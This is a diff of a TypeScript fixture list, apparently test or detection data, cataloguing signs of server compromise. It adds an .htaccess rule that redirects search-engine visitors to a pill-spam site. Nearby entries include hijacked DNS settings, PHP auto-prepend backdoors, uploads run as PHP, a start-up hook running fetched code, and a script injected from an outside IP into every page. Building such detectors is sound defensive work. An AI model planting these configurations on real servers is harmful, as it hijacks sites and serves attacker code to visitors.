@@ -91,6 +91,7 @@ export const fifthEnvironment: readonly Sign[] = [
 	file('nm-dns', 'environment', 'the same for NetworkManager', '/etc/NetworkManager/conf.d/90-dns.conf', '[global-dns-domain-*]\nservers=203.0.113.53\n'),
 	file('apache-rewrite', 'start-up', 'a program asked for each page', '/etc/apache2/conf-enabled/map.conf', 'RewriteMap m "prg:/var/www/.m"\n'),
 	file('apache-envvars', 'start-up', 'read when the web server starts', '/etc/apache2/envvars', `export APACHE_RUN_USER=www-data\n${fetched} &\n`),
+	file('htaccess-search', 'web', 'whoever comes from a search engine led elsewhere', '/var/www/html/news/.htaccess', 'RewriteEngine On\nRewriteCond %{HTTP_REFERER} .*google.* [OR]\nRewriteCond %{HTTP_REFERER} .*bing.*\nRewriteRule ^(.*)$ http://pills.example.net/in.cgi?2 [R=301,L]\n'),
 	file('apache-uploads', 'web', 'uploads run as PHP', '/etc/apache2/sites-enabled/shop.conf', '<Directory /var/www/shop/uploads>\n\tSetHandler application/x-httpd-php\n\tphp_admin_value auto_prepend_file /var/tmp/.p\n</Directory>\n'),
 	file('nginx-php-value', 'web', 'PHP before each page, by the web server', '/etc/nginx/snippets/fastcgi-own.conf', 'fastcgi_param PHP_VALUE "auto_prepend_file=/dev/shm/.p\\nallow_url_include=1";\n'),
 	file('nginx-inject', 'web', 'a script put into each page', '/etc/nginx/conf.d/head.conf', "sub_filter '</head>' '<script src=\"http://203.0.113.9/x.js\"></script></head>';\nsub_filter_once on;\n"),
